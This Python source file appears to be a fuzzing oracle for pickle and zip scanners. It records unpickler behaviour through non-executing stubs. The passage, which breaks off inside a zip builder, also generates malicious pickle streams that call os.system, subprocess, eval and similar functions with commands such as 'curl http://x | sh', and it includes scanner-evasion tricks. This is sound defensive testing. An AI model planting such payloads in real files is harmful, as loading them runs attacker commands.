#!/usr/bin/env python3
"""Differential oracle: what CPython's pickle (pure-Python and C) and zipfile would do with a file.

find_class never imports anything: it returns a recording stub class. Nothing in a case is ever executed.

  python3 oracle.py generate --cases N --seed S --out FILE.jsonl.gz [--jobs J] [--max-size BYTES]
  python3 oracle.py check-one FILE

Each output line: {"id","kind","gen","name","data"(base64),"py","c","zip"}.
"py"/"c" = {"loads": streams fully loaded, "end": offset where loading stopped, "error": first error or null,
            "ev": [[kind, stream, module, name, mapped_module, mapped_name], ...]} with kind
   R  find_class(module, name) (module/name raw, mapped_* after _compat_pickle mapping when proto < 3)
   G  builtins.getattr(stub, 'attr') -> resolution of stub.attr (module/name = owner mapped + '.attr')
   C  a stub was called (REDUCE, OBJ/INST with arguments, trampoline base)
   N  a stub was constructed (NEWOBJ, NEWOBJ_EX, OBJ/INST without arguments, copyreg trampolines)
   B  BUILD on an object produced by a stub (__setstate__)
   M  BUILD on a stub class itself
"zip" = null (zipfile cannot open it) or {"error", "members": [{"name","readable","crc_ok","size","dir","error","pickle"}]}
"""
import argparse
import base64
import gzip
import io
import json
import os
import pickle
import pickletools
import random
import re
import signal
import struct
import sys
import zipfile
import zlib
import _compat_pickle

MAX_LOADS = 64
MAX_MEMBER_READ = 16 << 20
MAX_PICKLE_MEMBER = 4 << 20
HERE = os.path.dirname(os.path.abspath(__file__))
FIXTURES = os.path.normpath(os.path.join(HERE, '..', 'fixtures'))

# --------------------------------------------------------------------------------------------------------------------
# Oracle
# --------------------------------------------------------------------------------------------------------------------

_ADDR = re.compile(r'0x[0-9a-fA-F]{6,}')
_GLOBAL_OPS = {'GLOBAL', 'INST', 'STACK_GLOBAL', 'EXT1', 'EXT2', 'EXT4'}


def _map_name(module, name, proto):
    if proto < 3:
        if (module, name) in _compat_pickle.NAME_MAPPING:
            return _compat_pickle.NAME_MAPPING[(module, name)]
        if module in _compat_pickle.IMPORT_MAPPING:
            return _compat_pickle.IMPORT_MAPPING[module], name
    return module, name


def _protos_for_globals(data, start):
    """Proto in effect at each find_class-triggering opcode of the stream at `start` (the C unpickler hides its proto)."""
    out = []
    proto = 0
    try:
        for op, arg, _pos in pickletools.genops(io.BytesIO(data[start:])):
            if op.name == 'PROTO':
                proto = arg
            elif op.name in _GLOBAL_OPS:
                out.append(proto)
    except Exception:  # noqa: BLE001
        pass
    return out, proto


class Recorder:
    def __init__(self):
        self.events = []
        self.stream = 0
        self.cache = {}

    def ev(self, kind, raw, mapped):
        self.events.append([kind, self.stream, raw[0], raw[1], mapped[0], mapped[1]])

    def stub(self, raw, mapped):
        key = (raw, mapped)
        cls = self.cache.get(key)
        if cls is None:
            cls = StubMeta('Stub', (StubBase,), {'_rec': self, '_raw': raw, '_mapped': mapped})
            self.cache[key] = cls
        return cls


class StubObject:
    """What calling or constructing a stub produces. Accepts container opcodes; records BUILD."""

    def __init__(self, origin):
        object.__setattr__(self, '_origin', origin)

    def __setstate__(self, state):
        o = self._origin
        o._rec.ev('B', o._raw, o._mapped)

    def __setitem__(self, key, value):
        pass

    def append(self, value):
        pass

    def extend(self, values):
        for _ in values:
            pass

    def add(self, value):
        pass


class StubMeta(type):
    def __call__(cls, *args, **kwargs):
        rec = cls._rec
        mapped = cls._mapped
        if mapped == ('builtins', 'getattr') and len(args) >= 2 and isinstance(args[0], StubMeta) and type(args[1]) is str:
            owner = args[0]
            target = (owner._mapped[0], owner._mapped[1] + '.' + args[1])
            rec.ev('G', target, target)
            return rec.stub(target, target)
        rec.ev('C', cls._raw, mapped)
        if mapped == ('copyreg', '_reconstructor') and len(args) >= 2:
            target, base = args[0], args[1]
            if isinstance(target, StubMeta):
                rec.ev('N', target._raw, target._mapped)
            if isinstance(base, StubMeta) and base._mapped != ('builtins', 'object'):
                rec.ev('C', base._raw, base._mapped)
            return StubObject(target if isinstance(target, StubMeta) else cls)
        if mapped in (('copyreg', '__newobj__'), ('copyreg', '__newobj_ex__')) and args and isinstance(args[0], StubMeta):
            rec.ev('N', args[0]._raw, args[0]._mapped)
            return StubObject(args[0])
        return StubObject(cls)

    def __setstate__(cls, state):
        cls._rec.ev('M', cls._raw, cls._mapped)

    def __repr__(cls):
        return 'Stub'


class StubBase:
    def __new__(cls, *args, **kwargs):
        cls._rec.ev('N', cls._raw, cls._mapped)
        return StubObject(cls)


def _error_text(e):
    text = '%s: %s' % (type(e).__name__, e)
    return _ADDR.sub('0x?', text)[:160]


def run_unpickler(data, impl):
    """Loads stream after stream from one Unpickler (the memo persists, as in CPython) until an error or the end."""
    rec = Recorder()
    f = io.BytesIO(data)
    if impl == 'py':
        class U(pickle._Unpickler):
            def find_class(self, module, name):
                raw = (module, name)
                mapped = _map_name(module, name, self.proto)
                rec.ev('R', raw, mapped)
                return rec.stub(raw, mapped)
        u = U(f)
    else:
        state = {'protos': [], 'last': 0, 'i': 0}

        class U(pickle.Unpickler):
            def find_class(self, module, name):
                raw = (module, name)
                i = state['i']
                state['i'] += 1
                proto = state['protos'][i] if i < len(state['protos']) else state['last']
                mapped = _map_name(module, name, proto)
                rec.ev('R', raw, mapped)
                return rec.stub(raw, mapped)
        u = U(f)
    loads = 0
    error = None
    while loads < MAX_LOADS and f.tell() < len(data):
        rec.stream = loads
        if impl == 'c':
            state['protos'], state['last'] = _protos_for_globals(data, f.tell())
            state['i'] = 0
        try:
            u.load()
        except BaseException as e:  # noqa: BLE001 -- anything the unpickler raises ends the oracle's run
            if isinstance(e, (KeyboardInterrupt, TimeoutError)):
                raise
            error = _error_text(e)
            break
        loads += 1
    return {'loads': loads, 'end': f.tell(), 'error': error, 'ev': rec.events}


def pickle_oracle(data):
    return run_unpickler(data, 'py'), run_unpickler(data, 'c')


def zip_oracle(data):
    try:
        z = zipfile.ZipFile(io.BytesIO(data))
    except Exception:  # noqa: BLE001
        return None
    members = []
    for info in z.infolist()[:1000]:
        m = {'name': info.filename, 'readable': False, 'crc_ok': True, 'size': info.file_size, 'dir': info.filename.endswith('/'), 'error': None, 'pickle': None}
        content = None
        try:
            with z.open(info) as fh:
                chunks = []
                total = 0
                while True:
                    b = fh.read(1 << 20)
                    if not b:
                        break
                    chunks.append(b)
                    total += len(b)
                    if total > MAX_MEMBER_READ:
                        break
                content = b''.join(chunks)
            m['readable'] = True
        except Exception as e:  # noqa: BLE001
            if 'CRC' in str(e):
                m['crc_ok'] = False
            m['error'] = _error_text(e)
        if content is not None and len(content) <= MAX_PICKLE_MEMBER:
            py, c = pickle_oracle(content)
            if py['ev'] or c['ev']:
                m['pickle'] = {'py': py, 'c': c}
        members.append(m)
    return {'error': None, 'members': members}


# --------------------------------------------------------------------------------------------------------------------
# Pickle assembly helpers
# --------------------------------------------------------------------------------------------------------------------

DANGEROUS = [
    ('os', 'system'), ('posix', 'system'), ('nt', 'system'), ('subprocess', 'Popen'), ('subprocess', 'check_output'),
    ('subprocess', 'run'), ('builtins', 'eval'), ('builtins', 'exec'), ('__builtin__', 'eval'), ('__builtin__', 'execfile'),
    ('builtins', '__import__'), ('builtins', 'compile'), ('runpy', '_run_code'), ('pickle', 'loads'), ('_pickle', 'loads'),
    ('marshal', 'loads'), ('types', 'CodeType'), ('types', 'FunctionType'), ('webbrowser', 'open'), ('socket', 'create_connection'),
    ('shutil', 'rmtree'), ('torch', 'load'), ('numpy', 'load'), ('pty', 'spawn'), ('commands', 'getoutput'),
    ('os', 'popen'), ('os', 'execv'), ('importlib', 'import_module'), ('code', 'InteractiveInterpreter'), ('sys', 'modules'),
    ('operator', 'attrgetter'), ('operator', 'methodcaller'), ('functools', 'partial'), ('ctypes', 'CDLL'),
    ('builtins', 'open'), ('io', 'open'), ('pydoc', 'pipepager'), ('timeit', 'timeit'), ('platform', 'popen'),
    ('asyncio.subprocess', 'create_subprocess_shell'), ('os.path', 'join'), ('copyreg', 'add_extension'),
]
BENIGN = [
    ('collections', 'OrderedDict'), ('torch._utils', '_rebuild_tensor_v2'), ('torch', 'FloatStorage'),
    ('numpy.core.multiarray', '_reconstruct'), ('numpy', 'ndarray'), ('numpy', 'dtype'), ('builtins', 'set'),
    ('__builtin__', 'set'), ('builtins', 'frozenset'), ('datetime', 'datetime'), ('datetime', 'date'), ('builtins', 'complex'),
    ('_codecs', 'encode'), ('copyreg', '_reconstructor'), ('copy_reg', '_reconstructor'), ('copyreg', '__newobj__'),
    ('builtins', 'object'), ('__builtin__', 'object'), ('UserDict', 'UserDict'), ('exceptions', 'Exception'),
    ('builtins', 'getattr'), ('builtins', 'bytearray'), ('numpy.core.multiarray', 'scalar'), ('collections', 'defaultdict'),
    ('sklearn.tree._tree', 'Tree'), ('__main__', 'Foo'), ('mymodule', 'Thing'), ('builtins', 'slice'), ('builtins', 'range'),
    ('decimal', 'Decimal'), ('enum', 'Enum'), ('re', '_compile'), ('torch._utils', '_rebuild_parameter'),
]
JUNK = [
    ('os ', 'system'), ('os', 'sys tem'), ('', 'x'), ('a..b', 'c'), ('1os', 'system'), ('os', ''), ('os\r', 'system'),
    ('builtins', 'object.__subclasses__'), ('os', 'system.__call__'), ('posix', 'system\x00'), ('\u00e9t\u00e9', 'x'),
    ('builtins', 'eval\t'), ('x' * 300, 'y'),
]
ARGS = ['id', 'echo pwned', 'touch /tmp/pwned', "__import__('os').system('id')", 'curl http://x | sh', '', 'ls -la']


def _u8(s):
    return s.encode('utf-8', 'surrogatepass')


def op_str(s, rng, proto):
    b = _u8(s)
    if proto >= 4 and len(b) < 256 and rng.random() < 0.7:
        return b'\x8c' + bytes([len(b)]) + b
    if proto >= 1 and rng.random() < 0.8:
        return b'X' + struct.pack('<I', len(b)) + b
    if '\n' not in s and '\\' not in s and rng.random() < 0.5:
        return b'V' + _u8(s) + b'\n'
    if all(ord(ch) < 128 for ch in s):
        return b'S' + repr(s).encode('ascii') + b'\n'
    return b'V' + s.encode('raw_unicode_escape') + b'\n'


def op_global(m, n, rng, proto):
    if proto >= 4 and rng.random() < 0.6:
        return op_str(m, rng, proto) + op_str(n, rng, proto) + b'\x93'
    return b'c' + _u8(m) + b'\n' + _u8(n) + b'\n'


def call_payload(m, n, arg, rng, proto, memo=True):
    """callable(arg) via REDUCE (or INST/OBJ): an expression leaving one value on the stack."""
    form = rng.random()
    if proto < 2 and form < 0.15:
        return b'(' + op_str(arg, rng, 0) + b'i' + _u8(m) + b'\n' + _u8(n) + b'\n'
    if proto >= 1 and form < 0.3:
        return b'(' + op_global(m, n, rng, proto) + op_str(arg, rng, proto) + b'o'
    body = op_global(m, n, rng, proto)
    if memo and proto >= 1 and rng.random() < 0.3:
        body += b'q' + bytes([rng.randrange(256)])
    if proto >= 2 and rng.random() < 0.5:
        body += op_str(arg, rng, proto) + b'\x85'
    else:
        body += b'(' + op_str(arg, rng, proto) + b't'
    return body + b'R'


def getattr_payload(owner, attr, arg, rng, proto):
    """builtins.getattr(owner, attr)(arg)."""
    gm = rng.choice(['builtins', '__builtin__']) if proto < 3 else 'builtins'
    return (op_global(gm, 'getattr', rng, proto) + b'(' + op_global(owner[0], owner[1], rng, proto) + op_str(attr, rng, proto)
            + b'tR(' + op_str(arg, rng, proto) + b'tR')


def proto_header(proto):
    return b'\x80' + bytes([proto]) if proto >= 2 else b''


def malicious_stream(rng, proto=None):
    proto = rng.randrange(6) if proto is None else proto
    r = rng.random()
    if r < 0.6:
        m, n = rng.choice(DANGEROUS)
        body = call_payload(m, n, rng.choice(ARGS), rng, proto)
    elif r < 0.8:
        owner = rng.choice([('os', 'system'), ('subprocess', 'Popen'), ('collections', 'OrderedDict'), ('builtins', 'object'),
                            ('numpy', 'ndarray'), ('torch', 'Tensor'), ('os', 'path')])
        body = getattr_payload(owner, rng.choice(['system', 'popen', '__subclasses__', 'fromkeys', 'load', 'join', 'mro']),
                               rng.choice(ARGS), rng, proto)
    else:
        # copyreg trampolines and NEWOBJ constructions of an unknown/dangerous class
        m, n = rng.choice(DANGEROUS + BENIGN)
        if proto >= 2 and rng.random() < 0.5:
            body = op_global(m, n, rng, proto) + b')\x81' + b'}' + b'b'
        else:
            cm = 'copy_reg' if proto < 3 and rng.random() < 0.5 else 'copyreg'
            body = (op_global(cm, '_reconstructor', rng, proto) + b'(' + op_global(m, n, rng, proto)
                    + op_global('builtins' if proto >= 3 else '__builtin__', rng.choice(['object', 'dict', 'list']), rng, proto)
                    + b'NtR')
    return proto_header(proto) + body + b'.'


class Reduce:
    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _real_callables():
    import builtins
    import subprocess
    import posixpath
    return [(os.system, 1), (subprocess.Popen, 1), (subprocess.check_output, 1), (builtins.eval, 1), (builtins.exec, 1),
            (os.popen, 1), (builtins.__import__, 1), (posixpath.join, 2), (builtins.getattr, 0)]


def benign_value(rng, depth=0):
    import collections
    import datetime
    r = rng.random()
    if depth > 3 or r < 0.35:
        return rng.choice([None, True, False, rng.randrange(-300, 300), rng.randrange(-2**70, 2**70), 1.5, float('inf'),
                           'text', 'caf\u00e9', b'bytes', bytearray(b'ba'), rng.random(), 2**31, -2**31 - 1, 255, 256, 65536,
                           complex(1, 2), 'x' * rng.randrange(300), b'\x00' * rng.randrange(300)])
    if r < 0.5:
        return [benign_value(rng, depth + 1) for _ in range(rng.randrange(5))]
    if r < 0.6:
        return tuple(benign_value(rng, depth + 1) for _ in range(rng.randrange(5)))
    if r < 0.75:
        return {str(i): benign_value(rng, depth + 1) for i in range(rng.randrange(5))}
    if r < 0.8:
        return collections.OrderedDict((str(i), i) for i in range(rng.randrange(4)))
    if r < 0.85:
        return {rng.randrange(10) for _ in range(rng.randrange(4))}
    if r < 0.88:
        return frozenset({1, 2})
    if r < 0.92:
        return datetime.datetime(2020, 1, 2, 3, 4, 5)
    if r < 0.95:
        return datetime.date(2021, 5, 6)
    v = [1, 2]
    return [v, v, {'self': v}]


def gen_real_dangerous(rng):
    """Real pickle.dumps of an object whose __reduce__ names a dangerous callable (nothing is called here)."""
    proto = rng.randrange(6)
    func, kind = rng.choice(_real_callables())
    import subprocess
    if kind == 1:
        obj = Reduce(func, (rng.choice(ARGS),))
    elif kind == 2:
        obj = Reduce(func, ('a', 'b'))
    else:
        obj = Reduce(func, (subprocess.Popen, rng.choice(['communicate', '__init__', 'kill'])))
    if rng.random() < 0.5:
        obj = {'state_dict': benign_value(rng), 'payload': [benign_value(rng), obj]}
    return pickle.dumps(obj, protocol=proto)


def gen_benign(rng):
    return pickle.dumps(benign_value(rng), protocol=rng.randrange(6))


# ---- grammar walk -------------------------------------------------------------------------------------------------

def _rand_int_arg(rng):
    return rng.choice([0, 1, -1, 255, 256, 65535, 65536, 2**31 - 1, -2**31, 2**31, 2**63 - 1, -2**63, rng.randrange(-10**6, 10**6)])


def grammar_walk(rng, max_ops=60):
    """A random walk over every opcode with a rough stack model (valid-ish), boundary arguments included."""
    proto = rng.choice([0, 1, 2, 2, 3, 4, 4, 5])
    out = bytearray(proto_header(proto))
    stack = []  # 'v' value, 'g' callable global, 'm' mark, 'o' object
    memo = []
    n = rng.randrange(1, max_ops)
    for _ in range(n):
        r = rng.random()
        if r < 0.04:
            out += rng.choice([b'(', b'0', b'1', b'2', b')', b']', b'}', b'N', b'\x88', b'\x89', b'.', b'R', b'b', b'\x81', b'\x92',
                               b't', b'l', b'd', b'a', b'e', b's', b'u', b'o', b'\x85', b'\x86', b'\x87', b'\x8f', b'\x90', b'\x91',
                               b'\x94', b'\x97', b'\x98', b'\x93', b'Q', b'P1\n', b'\x82\x01', b'\x83\x01\x00', b'\x84\x01\x00\x00\x00'])
            continue
        if r < 0.16:
            m, nm = rng.choice(DANGEROUS + BENIGN + BENIGN + JUNK[:4])
            out += op_global(m, nm, rng, proto)
            stack.append('g')
        elif r < 0.3:
            k = rng.randrange(14)
            if k == 0:
                out += b'K' + bytes([rng.randrange(256)])
            elif k == 1:
                out += b'M' + struct.pack('<H', rng.choice([0, 1, 65535, rng.randrange(65536)]))
            elif k == 2:
                out += b'J' + struct.pack('<i', rng.choice([0, -1, 2**31 - 1, -2**31]))
            elif k == 3:
                out += b'I' + rng.choice([b'00', b'01', b'0', b'1', b'-5', b'123456789012345678901234', b'0x10', b'0o17', b'017', b'1_0', b' 7']) + b'\n'
            elif k == 4:
                out += b'L' + rng.choice([b'0', b'12L', b'-99999999999999999999', b'0x1fL', b'1_000L']) + b'\n'
            elif k == 5:
                out += b'F' + rng.choice([b'1.5', b'nan', b'-inf', b'1e308', b'1_0.5', b' 2.0', b'1e400']) + b'\n'
            elif k == 6:
                out += b'G' + struct.pack('>d', rng.random())
            elif k == 7:
                v = _rand_int_arg(rng)
                b = pickle.encode_long(v)
                out += b'\x8a' + bytes([len(b)]) + b if rng.random() < 0.8 else b'\x8b' + struct.pack('<I', len(b)) + b
            elif k == 8:
                b = bytes(rng.randrange(256) for _ in range(rng.choice([0, 1, 5, 255])))
                out += b'C' + bytes([len(b)]) + b if len(b) < 256 else b'B' + struct.pack('<I', len(b)) + b
            elif k == 9:
                b = bytes(rng.randrange(256) for _ in range(rng.randrange(40)))
                out += rng.choice([b'B' + struct.pack('<I', len(b)), b'\x8e' + struct.pack('<Q', len(b)), b'\x96' + struct.pack('<Q', len(b)),
                                   b'T' + struct.pack('<i', len(b)), b'U' + bytes([len(b)])]) + b
            elif k == 10:
                out += op_str(rng.choice(['os', 'system', 'posix', 'builtins', 'eval', 'x', 'caf\u00e9', 'a\nb']), rng, proto)
            elif k == 11:
                out += b'N' if rng.random() < 0.5 else rng.choice([b'\x88', b'\x89'])
            elif k == 12:
                out += rng.choice([b']', b')', b'}', b'\x8f'])
            else:
                out += b'S' + rng.choice([b"'abc'", b'"d"', b"'\\x41\\n'", b"'unterminated", b"''"]) + b'\n'
            stack.append('v')
        elif r < 0.4:
            out += b'('
            stack.append('m')
        elif r < 0.5 and stack:
            idx = len(memo)
            k = rng.randrange(4)
            if k == 0 and proto >= 4:
                out += b'\x94'
            elif k == 1:
                out += b'p' + str(rng.choice([idx, idx, 0, 10**10])).encode() + b'\n'
            elif k == 2:
                out += b'q' + bytes([idx % 256])
            else:
                out += b'r' + struct.pack('<I', idx)
            memo.append(stack[-1])
        elif r < 0.55 and memo:
            i = rng.randrange(len(memo))
            k = rng.randrange(3)
            out += [b'g' + str(i).encode() + b'\n', b'h' + bytes([i % 256]), b'j' + struct.pack('<I', i)][k]
            stack.append(memo[i])
        elif r < 0.75 and stack:
            if 'g' in stack and rng.random() < 0.7:
                args = rng.choice([b')', b'N\x85', b'(' + op_str(rng.choice(ARGS), rng, proto) + b't', b'K\x01K\x02\x86'])
                out += args + b'R'
                while stack and stack[-1] != 'g':
                    stack.pop()
                if stack:
                    stack.pop()
                stack.append('o')
            else:
                out += rng.choice([b'b', b'\x81', b'\x92', b'R', b'o', b'i' + rng.choice([b'os\nsystem\n', b'collections\nOrderedDict\n'])])
                stack.append('o')
        elif r < 0.85 and stack:
            if 'm' in stack:
                out += rng.choice([b't', b'l', b'd', b'e', b'u', b'\x90', b'\x91', b'1'])
                while stack and stack.pop() != 'm':
                    pass
                stack.append('v')
            else:
                out += rng.choice([b'\x85', b'\x86', b'\x87', b'0', b'2', b'a', b's'])
        elif r < 0.9:
            out += rng.choice([b'\x95' + struct.pack('<Q', rng.choice([0, 1, 8, 100, 2**62])), b'\x80' + bytes([rng.randrange(7)]),
                               b'\x82' + bytes([rng.randrange(256)]), b'\x97', b'\x98', b'P' + b'id\n', b'Q'])
        else:
            out += b'0' if stack else b'N'
            if stack:
                stack.pop()
    if rng.random() < 0.5:
        out += malicious_stream(rng, proto)[len(proto_header(proto)):-1]
    out += b'.'
    return bytes(out)


def gen_frame_split(rng):
    """A FRAME that ends inside a text opcode's line: the C unpickler reads the rest of the line afresh."""
    proto = rng.choice([4, 5])
    m, n = rng.choice(DANGEROUS)
    decoy_m, decoy_n = rng.choice(BENIGN)
    k = rng.randrange(4)
    if k == 0:  # frame ends inside the module line
        head = b'c' + _u8(decoy_m)[:rng.randrange(0, len(decoy_m) + 1)]
        tail = _u8(m) + b'\n' + _u8(n) + b'\n'
    elif k == 1:  # frame ends inside the name line
        head = b'c' + _u8(m) + b'\n' + _u8(decoy_n)[:rng.randrange(0, len(decoy_n) + 1)]
        tail = _u8(n) + b'\n'
    elif k == 2:  # inside an INT / STRING / PUT line before the global
        op = rng.choice([b'I12', b'L99', b'F1.5', b"S'abc", b'Vxyz', b'p7', b'(g7'])
        head = b'N' + op[:rng.randrange(1, len(op) + 1)]
        tail = rng.choice([b'0\n', b'\n', b'5\n']) + b'0' + op_global(m, n, rng, 2)
    else:  # inside INST's lines
        head = b'(' + b'i' + _u8(decoy_m)[:rng.randrange(len(decoy_m) + 1)]
        tail = _u8(m) + b'\n' + _u8(n) + b'\n'
    body = head + tail + b'(' + op_str(rng.choice(ARGS), rng, proto) + b'tR.'
    flen = len(head) + rng.choice([0, 0, 0, 1, -1])
    return b'\x80' + bytes([proto]) + b'\x95' + struct.pack('<Q', max(0, flen)) + body


# ---- argument forms -----------------------------------------------------------------------------------------------

NUMERIC_FORMS = [
    b'I0x10\n', b'I0X1f\n', b'I0o17\n', b'I017\n', b'I00\n', b'I01\n', b'I000\n', b'I1_000\n', b'I_1\n', b'I 12\n', b'I12 \n',
    b'I\t12\n', b'I+5\n', b'I-0\n', b'I0b101\n', b'I12L\n', b'I99999999999999999999999999\n', b'I0x\n', b'I\n', b'I1\r\n',
    b'I\xd9\xa3\n', b'I1e3\n', b'I0_0\n', b'I010\n',
    b'L0x10L\n', b'L017L\n', b'L0o17\n', b'L1_000L\n', b'L 5L\n', b'L5 L\n', b'LL\n', b'L12\n', b'L-0L\n', b'L99999999999999999999999L\n',
    b'L0b11L\n', b'L1ll\n',
    b'F1.5\n', b'F1_0.5\n', b'F 1.5\n', b'F1.5 \n', b'Fnan\n', b'Finf\n', b'F-Infinity\n', b'F0x1p3\n', b'F1e999\n', b'F.5\n', b'F5.\n',
    b'F\n', b'F1,5\n', b'F1.5L\n', b'F\xd9\xa3\n',
    b'g0\n', b'g00\n', b'g 0\n', b'g0x0\n', b'g0_0\n', b'g-0\n', b'p0 \n', b'p 1\n', b'p0x1\n', b'p1_0\n', b'p-1\n',
    b'S"abc"\n', b"S'abc\n", b'Sabc\n', b"S'a\\'b'\n", b"S'\\xzz'\n", b'S\'a\'  \n', b"S  'a'\n",
    b'Vab\\u0041\n', b'V\\u12\n', b'V\\U0001F600\n', b'V\xff\n', b'V\\x41\n',
    b'K\xff', b'M\xff\xff', b'J\xff\xff\xff\xff',
]


def gen_numeric(rng):
    """INT/LONG/FLOAT/GET/PUT/STRING argument forms CPython parses differently, before a dangerous call."""
    proto = rng.choice([0, 0, 1, 2])
    parts = []
    for _ in range(rng.randrange(1, 4)):
        form = rng.choice(NUMERIC_FORMS)
        if form[:1] in b'gh' and rng.random() < 0.8:
            parts.append(b'N' + (b'p0\n' if form[:1] == b'g' else b'q\x00') + b'0')
        parts.append(form + b'0')
    m, n = rng.choice(DANGEROUS)
    body = b''.join(parts) + call_payload(m, n, rng.choice(ARGS), rng, proto, memo=False)
    if rng.random() < 0.3:
        body = op_global(m, n, rng, proto) + b'(' + rng.choice(NUMERIC_FORMS) + b'tR'
    return proto_header(proto) + body + b'.'


def gen_long_text(rng):
    """A first text argument longer than 8 KiB before the dangerous global."""
    proto = rng.choice([0, 0, 1, 2, 3, 4])
    size = rng.choice([8191, 8192, 8193, 9000, 16384, 20000, 65536 - 200])
    word = ''.join(rng.choice('abcdefghij ') for _ in range(rng.randrange(1, 7)))
    text = (word * (size // len(word) + 1))[:size]
    k = rng.randrange(5)
    if k == 0:
        first = b'S' + repr(text).encode() + b'\n'
    elif k == 1:
        first = b'V' + text.encode() + b'\n'
    elif k == 2 and proto >= 1:
        first = b'X' + struct.pack('<I', size) + text.encode()
    elif k == 3:
        first = b'(' + b'S' + repr(text).encode() + b'\n' + b'l'
    else:
        first = b'c' + b'x' * 10 + b'\n' + text.encode() + b'\n'  # long global name (benign-looking)
    m, n = rng.choice(DANGEROUS)
    return proto_header(proto) + first + b'0' + call_payload(m, n, rng.choice(ARGS), rng, proto) + b'.'


MAGIC = [b'GIF89a', b'GIF87a', b'%PDF-1.7\n', b'\x89PNG\r\n\x1a\n', b'PK\x03\x04', b'{"a": 1}', b'}', b']', b'\x93NUMPY',
         b'\x1f\x8b\x08', b'BZh9', b'\xfd7zXZ\x00', b'\x04"M\x18', b'MZ', b'\x7fELF', b'GGUF', b'\x89HDF\r\n\x1a\n', b'ustar',
         b'<html>', b'#!/bin/sh\n', b'\xff\xd8\xff\xe0', b'RIFF', b'\x08\x01\x12', b'TFL3', b'version https://git-lfs', b'\x00\x00\x00\x00']


def gen_magic(rng):
    """Another format's magic, parsed by CPython as opcodes (GIF89a = 'G' BINFLOAT ...), then a payload."""
    proto = rng.choice([0, 1, 2, 3, 4])
    magic = rng.choice(MAGIC)
    k = rng.randrange(4)
    if magic.startswith(b'G') and magic[1:2] == b'I' and k < 3:
        prefix = magic + bytes(rng.randrange(256) for _ in range(9 - len(magic))) + b'0'
    elif magic in (b'}', b']') and k < 3:
        prefix = magic + b'0'
    elif k == 0:
        prefix = b'S' + repr(magic.decode('latin-1')).encode('latin-1', 'backslashreplace') + b'\n0'
    elif k == 1 and proto >= 1:
        prefix = b'U' + bytes([len(magic)]) + magic + b'0'
    else:
        prefix = magic
    return prefix + malicious_stream(rng, proto)


FIRST_OPS = [b'(', b')', b']', b'}', b'N', b'\x88', b'\x89', b'K\x01', b'M\x01\x00', b'J\x01\x00\x00\x00', b'I1\n', b'L1\n',
             b'F1.0\n', b'G' + b'\x00' * 8, b"S'a'\n", b'Va\n', b'X\x01\x00\x00\x00a', b'\x8c\x01a', b'U\x01a', b'T\x01\x00\x00\x00a',
             b'C\x01a', b'B\x01\x00\x00\x00a', b'\x8e\x01' + b'\x00' * 7 + b'a', b'\x8d\x01' + b'\x00' * 7 + b'a',
             b'\x96\x01' + b'\x00' * 7 + b'a', b'\x8a\x01\x01', b'\x8b\x01\x00\x00\x00\x01', b'\x80\x02', b'\x80\x04', b'\x80\x05',
             b'\x95\x00\x00\x00\x00\x00\x00\x00\x00', b'cos\nsystem\n', b'\x8f', b'\x97']


def gen_concat(rng):
    """Benign stream(s), then a malicious one starting with each possible first opcode."""
    parts = [gen_benign(rng)]
    for _ in range(rng.randrange(0, 3)):
        parts.append(gen_benign(rng))
    first = rng.choice(FIRST_OPS)
    proto = rng.randrange(6)
    mal = malicious_stream(rng, proto)
    if first.startswith(b'\x80'):
        second = first + mal[len(proto_header(proto)):]
    elif first.startswith(b'\x95'):
        second = proto_header(max(proto, 4)) + first + mal[len(proto_header(proto)):]
    elif first == b'cos\nsystem\n':
        second = first + b'0' + mal
    else:
        second = first + b'0' + mal if rng.random() < 0.8 else first + mal
    parts.append(second)
    if rng.random() < 0.2:
        rng.shuffle(parts)
    return b''.join(parts)


def gen_memo_reuse(rng):
    """PUT in stream 1, GET in stream 2 (CPython keeps the memo across loads on one Unpickler)."""
    proto = rng.randrange(6)
    m, n = rng.choice(DANGEROUS)
    arg = rng.choice(ARGS)
    idx = rng.choice([0, 1, 5, 255])
    put = [b'p%d\n' % idx, b'q' + bytes([idx]), b'r' + struct.pack('<I', idx)]
    get = [b'g%d\n' % idx, b'h' + bytes([idx]), b'j' + struct.pack('<I', idx)]
    k = rng.randrange(3) if proto >= 1 else 0
    if rng.random() < 0.5:
        s1 = proto_header(proto) + op_global(m, n, rng, proto) + put[k] + b'0N.'
        s2 = proto_header(proto) + get[k] + b'(' + op_str(arg, rng, proto) + b'tR.'
    else:
        s1 = proto_header(proto) + b'(' + op_str(arg, rng, proto) + b't' + put[k] + b'.'
        s2 = proto_header(proto) + op_global(m, n, rng, proto) + get[k] + b'R.'
    mid = b''.join(gen_benign(rng) for _ in range(rng.randrange(2)))
    return s1 + mid + s2


_FIXTURE_CACHE = None


def _fixtures():
    global _FIXTURE_CACHE
    if _FIXTURE_CACHE is None:
        items = []
        for sub in ('malicious', 'benign'):
            d = os.path.join(FIXTURES, sub)
            if not os.path.isdir(d):
                continue
            for fn in sorted(os.listdir(d)):
                p = os.path.join(d, fn)
                if os.path.isfile(p) and os.path.getsize(p) <= 40000:
                    with open(p, 'rb') as fh:
                        items.append((fn, fh.read()))
        _FIXTURE_CACHE = items
    return _FIXTURE_CACHE


def mutate(data, rng):
    b = bytearray(data)
    for _ in range(rng.randrange(1, 4)):
        k = rng.randrange(5)
        if not b:
            b += b'.'
        if k == 0:
            i = rng.randrange(len(b))
            b[i] = rng.randrange(256) if rng.random() < 0.5 else b[i] ^ (1 << rng.randrange(8))
        elif k == 1:
            del b[rng.randrange(len(b)):]
        elif k == 2:
            i = rng.randrange(len(b) + 1)
            b[i:i] = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 9))) if rng.random() < 0.5 else rng.choice(FIRST_OPS)
        elif k == 3:
            i = rng.randrange(len(b))
            j = min(len(b), i + rng.randrange(1, 64))
            b[j:j] = b[i:j]
        else:
            i = rng.randrange(len(b) + 1)
            b[i:i] = malicious_stream(rng)
    return bytes(b)


def gen_fixture_mutation(rng):
    name, data = rng.choice(_fixtures())
    return name, mutate(data, rng)


# ---- zip ----------------------------------------------------------------------------------------------------------

def build_zip(entries, prepend=b'', junk=None, eocd_delta=0, comment=b'', cd_only=(), zip64=False):
    """entries: dicts with name, data, method (0/8), flags, crc (override), local_name, relative (offsets after prepend)."""
    out = bytearray(prepend)
    base = len(prepend)
    central = bytearray()
    for i, e in enumerate(entries):
        if junk is not None and i > 0:
            out += junk
        data = e['data']
        method = e.get('method', 0)
        comp = zlib.compress(data)[2:-4] if method == 8 else data
        crc = e.get('crc', zlib.crc32(data))
        flags = e.get('flags', 0)
        name = e['name'].encode('utf-8')
